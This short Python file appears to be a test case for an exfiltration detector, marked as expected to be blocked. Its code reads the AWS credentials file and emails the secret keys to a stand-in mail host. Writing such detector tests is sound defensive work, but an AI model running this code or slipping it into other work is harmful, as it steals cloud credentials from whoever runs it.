# expect: BLOCKED exfiltration
import configparser
import os
import smtplib

profile = configparser.ConfigParser()
profile.read(os.path.join(os.path.expanduser("~"), ".aws", "credentials"))
lines = [f"{k}={v}" for k, v in profile["default"].items()]
with smtplib.SMTP_SSL("smtp.mailbox.example", 465) as s:
    s.sendmail("a@mailbox.example", "b@mailbox.example", "\n".join(lines))
